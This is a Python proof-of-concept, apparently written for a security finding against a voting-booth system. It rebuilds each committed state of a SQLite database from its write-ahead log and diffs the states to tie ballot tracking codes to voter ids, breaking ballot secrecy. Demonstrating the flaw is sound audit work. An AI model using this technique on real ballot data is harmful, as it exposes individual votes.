"""The attacker's tool of issue 12, finding 6: rebuild the database as it was after each commit from
the WAL's frames, and diff consecutive states: a ballot and a mark that appear in the same commit
belong together. Reads only the booth's files, as someone who copies the booth's disk would."""

from __future__ import annotations

import sqlite3
import struct
import tempfile
from pathlib import Path

WAL_HEADER, FRAME_HEADER = 32, 24


def _commits(db: Path) -> list[bytes]:
    """Every database image a commit frame in the WAL describes, old generations' frames included."""
    main = db.read_bytes() if db.exists() else b""
    wal_path = db.with_name(db.name + "-wal")
    wal = wal_path.read_bytes() if wal_path.exists() else b""
    if len(wal) < WAL_HEADER:
        return []
    page_size = struct.unpack(">I", wal[8:12])[0]
    pages = {n + 1: main[n * page_size : (n + 1) * page_size] for n in range(len(main) // page_size)}
    images, offset = [], WAL_HEADER
    while offset + FRAME_HEADER + page_size <= len(wal):
        number, size_after = struct.unpack(">II", wal[offset : offset + 8])
        pages[number] = wal[offset + FRAME_HEADER : offset + FRAME_HEADER + page_size]
        offset += FRAME_HEADER + page_size
        if size_after:  # a commit frame: the database had this many pages then
            images.append(b"".join(pages.get(n, bytes(page_size)) for n in range(1, size_after + 1)))
    return images


def _rows(image: bytes) -> tuple[set[str], set[tuple[str, str]]] | None:
    # Bytes 18 and 19 say "WAL mode": set them to the rollback journal's so the copy opens alone.
    fixed = image[:18] + b"\x01\x01" + image[20:]
    with tempfile.NamedTemporaryFile(suffix=".sqlite") as handle:
        handle.write(fixed)
        handle.flush()
        try:
            connection = sqlite3.connect(f"file:{handle.name}?immutable=1", uri=True)
            try:
                codes = {r[0] for r in connection.execute("SELECT tracking_code FROM ballots")}
                marks = {(r[0], r[1]) for r in connection.execute("SELECT session_id, voter_id FROM marks")}
            finally:
                connection.close()
        except sqlite3.DatabaseError:
            return None  # frames of two generations mixed into a damaged image: skip it
    return codes, marks


def linked_ballots(data_dir: Path, database: str = "ballot-box.sqlite") -> dict[str, str]:
    """tracking code -> voter id, for every ballot the frames tie to exactly one new mark."""
    links: dict[str, str] = {}
    before: tuple[set[str], set[tuple[str, str]]] = (set(), set())
    for image in _commits(data_dir / database):
        state = _rows(image)
        if state is None:
            continue
        new_codes, new_marks = state[0] - before[0], state[1] - before[1]
        if len(new_codes) == 1 and len(new_marks) == 1:
            links[next(iter(new_codes))] = next(iter(new_marks))[1]
        before = state
    return links
